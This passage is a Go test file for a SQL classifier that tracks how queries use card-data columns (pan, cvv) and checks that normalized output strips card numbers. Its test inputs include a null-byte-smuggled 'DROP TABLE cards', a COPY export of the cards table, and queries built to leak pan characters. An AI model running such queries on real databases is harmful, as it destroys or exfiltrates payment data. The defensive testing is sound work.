	{q: "SELECT x FROM (SELECT cvv AS x FROM cards) s", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:output")}},
	{q: "WITH c AS (SELECT cvv FROM cards) SELECT cvv AS x FROM c", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:output")}},
	{q: "SELECT v.x FROM cards c, LATERAL (VALUES (c.cvv)) v(x)", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:derived")}},
	{q: "SELECT x FROM cards c, LATERAL (SELECT c.cvv AS x) l", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s(".x:output", "public.cards.cvv:output")}},
	{q: "SELECT * FROM (SELECT cvv FROM cards UNION SELECT '1') u", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:derived,setop")}},
	{q: "SELECT ROW(cvv) FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:derived,function")}},
	{q: "SELECT s FROM (SELECT cvv FROM cards) s", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s(".s:derived", "public.cards.cvv:derived")}},
	{q: "SELECT array_agg(cvv), json_agg(cvv), string_agg(cvv, ',') FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:aggregate,derived")}},
	{q: "SELECT format('%s', cvv), cvv || '', COALESCE(cvv, ''), CASE WHEN true THEN cvv END FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:derived,function")}},
	{q: "SELECT j.cvv FROM (cards JOIN customers ON customers.card_id = cards.id) j", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.customers"), cols: s("public.cards.cvv:output", "public.cards.id:filter", "public.customers.card_id:filter", "public.customers.cvv:output")}},
	{q: "SELECT cvv FROM cards FULL JOIN old_cards USING (cvv)", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.old_cards"), cols: s(".cvv:derived", "public.cards.cvv:filter", "public.old_cards.cvv:filter")}},
	// inference: every clause that compares, orders or groups records it
	{q: "WITH RECURSIVE r AS (SELECT id FROM cards) SEARCH DEPTH FIRST BY id SET ord SELECT id FROM r", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:function,order,output")}},
	{q: "WITH RECURSIVE r(p) AS (SELECT pan FROM cards UNION ALL SELECT p FROM r) SEARCH BREADTH FIRST BY p SET ord SELECT 1 FROM r ORDER BY ord", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:function,order,setop")}},
	{q: "WITH RECURSIVE r(p) AS (SELECT pan FROM cards UNION ALL SELECT p FROM r) CYCLE p SET loop USING path SELECT path FROM r", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:derived,filter,function,setop")}},
	{q: "SELECT EXISTS (SELECT pan FROM cards INTERSECT SELECT '4242424242424242')", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:setop")}},
	{q: "SELECT 1 WHERE EXISTS (SELECT pan FROM cards EXCEPT SELECT $1)", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:setop")}},
	{q: "SELECT DISTINCT pan FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:group,output")}},
	{q: "SELECT count(*) FROM cards GROUP BY CUBE (pan), GROUPING SETS ((cvv), ())", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:group", "public.cards.pan:group")}},
	{q: "SELECT rank() OVER w FROM cards WINDOW w AS (PARTITION BY cvv ORDER BY pan)", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:group", "public.cards.pan:order")}},
	{q: "SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY pan) FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:aggregate,derived,order")}},
	{q: "SELECT id FROM cards LIMIT (SELECT ascii(pan) FROM cards LIMIT 1) OFFSET length(current_user)", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s(".pan:function", "public.cards.id:output")}},
	{q: "SELECT id FROM customers WHERE card_id IN (SELECT length(pan) FROM cards)", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.customers"), cols: s(".pan:filter,function", "public.customers.card_id:filter", "public.customers.id:output")}},
	{q: "SELECT id FROM cards WHERE pan > ALL (SELECT '4')", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:filter")}},
	{q: "SELECT id FROM cards WHERE (pan, id) > ('4', 1)", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:filter,output", "public.cards.pan:filter")}},
	{q: "SELECT id FROM cards WHERE pan = $1", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:filter_eq_param")}},
	{q: "SELECT id FROM cards WHERE $1::text = pan OR cards.pan = $2", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:filter_eq_param")}},
	{q: "SELECT id FROM cards WHERE pan = ANY($1)", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:filter")}},
	{q: "SELECT id FROM cards WHERE pan = $1::text[]", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:filter")}},
	{q: "SELECT id FROM cards WHERE pan = '4242424242424242'", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:filter")}},
	{q: "SELECT id FROM cards WHERE substr(pan, 1, 1) = $1", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:filter,function")}},
	{q: "SELECT id FROM cards TABLESAMPLE BERNOULLI (50) REPEATABLE (1) WHERE pan < '5'", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:filter")}},
	{q: "SELECT x.n FROM cards c, XMLTABLE('/r' PASSING xmlparse(document c.pan) COLUMNS n text PATH 'n') x", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:function")}},
	{q: "SELECT jt.* FROM cards c, JSON_TABLE(c.pan::jsonb, '$' COLUMNS (n text PATH '$.n')) jt", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:function")}},
	{q: "INSERT INTO cards (id, pan) VALUES (1, 'x') ON CONFLICT (pan) WHERE cvv > '1' DO UPDATE SET holder = 'y' WHERE cards.exp < '1' RETURNING cvv", w: want{cmd: "INSERT", reads: s(cards), writes: s(cards), cols: s(".cvv:filter", "public.cards.cvv:returning", "public.cards.exp:filter", "public.cards.holder:write", "public.cards.id:write", "public.cards.pan:filter,write")}},
	{q: "MERGE INTO cards c USING old_cards o ON c.pan = o.pan WHEN NOT MATCHED BY SOURCE AND c.cvv < '5' THEN DELETE RETURNING c.id", w: want{cmd: "MERGE", reads: s(cards, "public.old_cards"), writes: s(cards), cols: s("public.cards.cvv:filter", "public.cards.id:returning", "public.cards.pan:filter", "public.old_cards.pan:filter")}},
	{q: "UPDATE cards SET holder = 'x' WHERE pan = $1", w: want{cmd: "UPDATE", writes: s(cards), cols: s("public.cards.holder:write", "public.cards.pan:filter_eq_param")}},
	{q: "TABLE cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.*:output")}},
}

func colStrings(cs []ColumnUse) []string {
	out := make([]string, 0, len(cs))
	for _, c := range cs {
		out = append(out, c.Table+"."+c.Column+":"+strings.Join(c.Usage, ","))
	}
	return out
}

func check(t *testing.T, label string, got *Statement, w want) {
	t.Helper()
	eq := func(field string, got, want []string) {
		t.Helper()
		if want == nil {
			want = none
		}
		if !slices.Equal(got, want) {
			t.Errorf("%s: %s = %q, want %q", label, field, got, want)
		}
	}
	if got.Command != w.cmd {
		t.Errorf("%s: command = %q, want %q", label, got.Command, w.cmd)
	}
	if got.ReadOnly != w.ro {
		t.Errorf("%s: read_only = %v, want %v", label, got.ReadOnly, w.ro)
	}
	if got.DDL != w.ddl {
		t.Errorf("%s: ddl = %v, want %v", label, got.DDL, w.ddl)
	}
	if got.Name != w.name {
		t.Errorf("%s: name = %q, want %q", label, got.Name, w.name)
	}
	eq("reads", got.Reads, w.reads)
	eq("writes", got.Writes, w.writes)
	eq("flags", got.Flags, w.flags)
	if w.funcs != nil {
		eq("functions", got.Functions, w.funcs)
	}
	if w.cols != nil {
		eq("columns", colStrings(got.Columns), w.cols)
	}
	if w.settings != nil {
		eq("settings", got.Settings, w.settings)
	}
	for _, xs := range [][]string{got.Reads, got.Writes, got.Functions, got.Flags, got.Settings} {
		if xs == nil || !slices.IsSorted(xs) {
			t.Errorf("%s: nil or unsorted slice %q", label, xs)
		}
	}
	if got.Columns == nil {
		t.Errorf("%s: nil columns", label)
	}
}

func TestClassify(t *testing.T) {
	t.Parallel()
	if len(cases) < 80 {
		t.Fatalf("only %d cases", len(cases))
	}
	c := New(0)
	for _, tt := range cases {
		t.Run(tt.q, func(t *testing.T) {
			t.Parallel()
			res, err := c.Classify(tt.q)
			if err != nil {
				t.Fatalf("Classify: %v", err)
			}
			n := max(tt.n, 1)
			if len(res.Statements) != n {
				t.Fatalf("%d statements, want %d", len(res.Statements), n)
			}
			st := &res.Statements[tt.at]
			check(t, "statement", st, tt.w)
			if tt.inner != nil {
				inner := st.Explains
				if inner == nil {
					inner = st.Prepared
				}
				if inner == nil {
					t.Fatalf("no explained or prepared statement")
				}
				checkInner(t, inner, *tt.inner)
			}
			if st.Text == "" || st.Normalized == "" {
				t.Errorf("empty text %q or normalized %q", st.Text, st.Normalized)
			}
			assertNoLiterals(t, tt.q, res)
		})
	}
}

// checkInner compares the fields an inner statement's expectation names.
func checkInner(t *testing.T, got *Statement, w want) {
	t.Helper()
	if got.Command != w.cmd || got.ReadOnly != w.ro || !slices.Equal(got.Reads, orNone(w.reads)) || !slices.Equal(got.Writes, orNone(w.writes)) {
		t.Errorf("inner = %s %v reads %q writes %q, want %s %v reads %q writes %q",
			got.Command, got.ReadOnly, got.Reads, got.Writes, w.cmd, w.ro, w.reads, w.writes)
	}
}

func orNone(xs []string) []string {
	if xs == nil {
		return none
	}
	return xs
}

var literalRE = regexp.MustCompile(`'[^']*'|\$\$[^$]*\$\$|\b\d+\b`)

// assertNoLiterals checks that no quoted string, dollar-quoted body or number of the query
// survives in any normalized text.
func assertNoLiterals(t *testing.T, q string, res *Result) {
	t.Helper()
	texts := []string{res.Normalized}
	for _, st := range res.Statements {
		texts = append(texts, st.Normalized)
	}
	for _, lit := range literalRE.FindAllString(q, -1) {
		if len(strings.Trim(lit, "'$")) < 3 && lit[0] == '\'' {
			continue // too short to tell from the rest of the text
		}
		for _, n := range texts {
			// Numbers may remain as parameter numbers ($1) or inside identifiers.
			if lit[0] >= '0' && lit[0] <= '9' {
				if regexp.MustCompile(`(^|[^$\w])` + lit + `\b`).MatchString(n) {
					t.Errorf("normalized %q holds the literal %s", n, lit)
				}
				continue
			}
			if strings.Contains(n, lit) || strings.Contains(n, strings.Trim(lit, "'$")) {
				t.Errorf("normalized %q holds the literal %s", n, lit)
			}
		}
	}
	if strings.Contains(res.Normalized, "--") || strings.Contains(res.Normalized, "/*") {
		t.Errorf("normalized %q holds a comment", res.Normalized)
	}
}

func TestNormalizedHoldsNoLiteral(t *testing.T) {
	t.Parallel()
	pans := []string{"4242424242424242", "5555555555554444", "378282246310005"}
	queries := []string{
		"SELECT * FROM cards WHERE pan = '4242424242424242'",
		"SELECT * FROM cards WHERE pan = 4242424242424242",
		"SELECT 1 /* 4242424242424242 */",
		"SELECT 1 -- 4242424242424242\n",
		"SELECT $$4242424242424242$$",
		"SELECT $tag$4242424242424242$tag$",
		"SELECT E'4242\\x34242424242424'",
		"SELECT U&'4242424242424242'",
		"SELECT X'4242424242424242'",
		"COPY cards TO '/tmp/4242424242424242'",
		"COMMENT ON TABLE cards IS '4242424242424242'",
		"ALTER TABLE cards ALTER COLUMN pan SET DEFAULT '4242424242424242'",
		"DO $$BEGIN PERFORM '4242424242424242'; END$$",
		"NOTIFY ch, '4242424242424242'",
		"SET application_name = '4242424242424242'",
		"CREATE ROLE r PASSWORD '4242424242424242'",
		"SELECT 1; SELECT '4242424242424242' /* 5555555555554444 */; -- 378282246310005",
		"INSERT INTO cards (pan) VALUES ('4242424242424242'), ('5555555555554444') RETURNING '378282246310005'",
		"PREPARE p AS SELECT '4242424242424242'",
		"EXPLAIN SELECT * FROM cards WHERE pan = '4242424242424242'",
		"SELECT interval '4242424242424242 seconds'",
		"CREATE TABLE t (pan text CHECK (pan <> '4242424242424242'))",
		"SELECT 4242424242424242.5e3",
	}
	c := New(0)
	for _, q := range queries {
		res, err := c.Classify(q)
		if err != nil {
			t.Fatalf("%s: %v", q, err)
		}
		b, err := json.Marshal(res)
		if err != nil {
			t.Fatal(err)
		}
		for _, p := range pans {
			for _, frag := range []string{p, p[:8], p[len(p)-8:]} {
				if strings.Contains(string(b), frag) {
					t.Errorf("%s: policy input %s holds %s", q, b, frag)
				}
			}
		}
	}
}

func TestSyntaxError(t *testing.T) {
	t.Parallel()
	c := New(0)
	for _, q := range []string{"SELEC 1", "SELECT FROM WHERE", "SELECT 'unterminated", "SELECT 1; DELET FROM cards", "SELECT 1\x00; DROP TABLE cards"} {
		_, err := c.Classify(q)
		if !errors.Is(err, ErrSyntax) {
			t.Errorf("%q: err = %v, want ErrSyntax", q, err)
			continue
		}
		var se *SyntaxError
		if !errors.As(err, &se) || se.Message == "" || se.Position <= 0 {
			t.Errorf("%q: %#v lacks message or position", q, se)
		}
	}
	_, err := c.Classify("SELECT 1; DELET FROM cards")
	var se *SyntaxError
	if errors.As(err, &se) && se.Position != 11 {
		t.Errorf("position = %d, want 11", se.Position)
	}
	// The error is cached too.
	if _, err2 := c.Classify("SELEC 1"); !errors.Is(err2, ErrSyntax) {
		t.Errorf("cached: %v", err2)
	}
}

func TestEmptyQuery(t *testing.T) {
	t.Parallel()
	c := New(0)
	for _, q := range []string{"", "   ", ";", " ; ;", "-- nothing\n", "/* nothing */"} {
		res, err := c.Classify(q)
		if err != nil {
			t.Fatalf("%q: %v", q, err)
		}
		if res.Statements == nil || len(res.Statements) != 0 {
			t.Errorf("%q: statements = %#v", q, res.Statements)
		}
		b, _ := json.Marshal(res)
		if !strings.Contains(string(b), `"statements":[]`) {
			t.Errorf("%q: %s", q, b)
		}
	}
}

func TestResultJSON(t *testing.T) {
	t.Parallel()
	res, err := New(0).Classify("SELECT pan FROM cards WHERE id = 1")
	if err != nil {
		t.Fatal(err)
	}
	if res.Fingerprint == "" {
		t.Error("no fingerprint")
	}
	b, err := json.Marshal(res)
	if err != nil {
		t.Fatal(err)
	}
	want := `{"normalized":"SELECT pan FROM cards WHERE id = $1","fingerprint":"` + res.Fingerprint + `","statements":[{"command":"SELECT","ddl":false,"read_only":true,"reads":["public.cards"],"writes":[],"functions":[],"flags":[],"columns":[{"table":"public.cards","column":"id","usage":["filter"]},{"table":"public.cards","column":"pan","usage":["output"]}],"settings":[],"normalized":"SELECT pan FROM cards WHERE id = $1"}]}`
	if string(b) != want {
		t.Errorf("json:\n%s\nwant\n%s", b, want)
	}
	if strings.Contains(string(b), "Text") {
		t.Error("Text reaches JSON")
	}
	if res.Statements[0].Text != "SELECT pan FROM cards WHERE id = 1" {
		t.Errorf("text = %q", res.Statements[0].Text)
	}
}

func TestFingerprintIgnoresConstantsAndComments(t *testing.T) {
	t.Parallel()
	c := New(0)
	a, err := c.Classify("SELECT pan FROM cards WHERE id = 1")
	if err != nil {
		t.Fatal(err)
	}
	b, err := c.Classify("select pan from cards /* x */ where id = 42")
	if err != nil {
		t.Fatal(err)
	}
	d, err := c.Classify("SELECT pan FROM cards WHERE name = 'x'")
	if err != nil {
		t.Fatal(err)
	}
	if a.Fingerprint != b.Fingerprint || a.Fingerprint == d.Fingerprint {
		t.Errorf("fingerprints %s %s %s", a.Fingerprint, b.Fingerprint, d.Fingerprint)
	}
}

func TestStatementText(t *testing.T) {
	t.Parallel()
	res, err := New(0).Classify("SELECT 1;  /* c */ DELETE FROM cards WHERE id = 2 ;\nSELECT 3")
	if err != nil {
		t.Fatal(err)
	}
	var texts, norms []string
	for _, st := range res.Statements {
		texts = append(texts, st.Text)
		norms = append(norms, st.Normalized)
	}
	if want := s("SELECT 1", "/* c */ DELETE FROM cards WHERE id = 2", "SELECT 3"); !slices.Equal(texts, want) {
		t.Errorf("texts = %q, want %q", texts, want)
	}
	if want := s("SELECT $1", "DELETE FROM cards WHERE id = $1", "SELECT $1"); !slices.Equal(norms, want) {
		t.Errorf("normalized = %q, want %q", norms, want)
	}
}

func TestCache(t *testing.T) {
	t.Parallel()
	c := New(8)
	a, err := c.Classify("SELECT 1")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := c.Classify("SELECT 1")
	if a != b {
		t.Error("second call did not come from the cache")
	}
	for i := range 100 {
		if _, err := c.Classify(fmt.Sprintf("SELECT %d FROM t%d", i, i)); err != nil {
			t.Fatal(err)
		}
	}
	if n := c.Len(); n > 8 {
		t.Errorf("cache holds %d entries, max 8", n)
	}
	off := New(-1)
	x, _ := off.Classify("SELECT 1")
	y, _ := off.Classify("SELECT 1")
	if x == y || off.Len() != 0 {
		t.Error("disabled cache cached")
	}
	long := "SELECT 1 WHERE 1 IN (" + strings.Repeat("1, ", maxCachedQueryBytes/3) + "1)"
	if _, err := c.Classify(long); err != nil {
		t.Fatal(err)
	}
	for _, e := range c.entries {
		if e.query == long {
			t.Error("long query cached")
		}
	}
}

func TestConcurrentClassify(t *testing.T) {
	t.Parallel()
	c := New(16)
	var wg sync.WaitGroup
	for g := range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range 200 {
				q := fmt.Sprintf("SELECT pan FROM cards WHERE id = %d", (g*7+i)%40)
				res, err := c.Classify(q)
				if err != nil || len(res.Statements) != 1 || res.Statements[0].Reads[0] != cards {
					t.Errorf("%s: %v %+v", q, err, res)
					return
				}
			}
		}()
	}
	wg.Wait()
}

// TestWalkResolvesEveryColumnRef checks that the walk itself resolves every column reference
// of the SELECT and DML cases: the sweep is a safety net for clauses the walker does not
// know, not how known clauses get their usage.
func TestWalkResolvesEveryColumnRef(t *testing.T) {
	t.Parallel()
	for _, c := range cases {
		tree, err := pg_query.Parse(c.q)
		if err != nil {
			t.Fatalf("%s: %v", c.q, err)
		}
		for _, raw := range tree.Stmts {
			switch raw.Stmt.GetNode().(type) {
			case *pg_query.Node_SelectStmt, *pg_query.Node_InsertStmt, *pg_query.Node_UpdateStmt,
				*pg_query.Node_DeleteStmt, *pg_query.Node_MergeStmt:
			default:
				continue
			}
			w := newWalker()
			var st Statement
			w.stmt(raw.Stmt, &st)
			before := len(w.seen)
			w.sweep(raw.Stmt)
			if after := len(w.seen); after != before {
				t.Errorf("%s: the sweep found %d column references the walk missed", c.q, after-before)
			}
		}
	}
}

// TestSweepRecordsUnknownClauses checks the sweep on a clause the walk skips on purpose.
func TestSweepRecordsUnknownClauses(t *testing.T) {
	t.Parallel()
	tree, err := pg_query.Parse("SELECT pan FROM cards")
	if err != nil {
		t.Fatal(err)
	}
	sel := tree.Stmts[0].Stmt.GetSelectStmt()
	// A clause the walker does not read: the sweep still finds its column.
	sel.IntoClause = &pg_query.IntoClause{Rel: &pg_query.RangeVar{Relname: "t"}, ViewQuery: pg_query.MakeColumnRefNode([]*pg_query.Node{pg_query.MakeStrNode("cvv")}, 0)}
	st := classifyStmt(tree.Stmts[0].Stmt)
	if got := colStrings(st.Columns); !slices.Contains(got, ".cvv:function") {
		t.Errorf("columns = %q, want .cvv:function", got)
	}
}
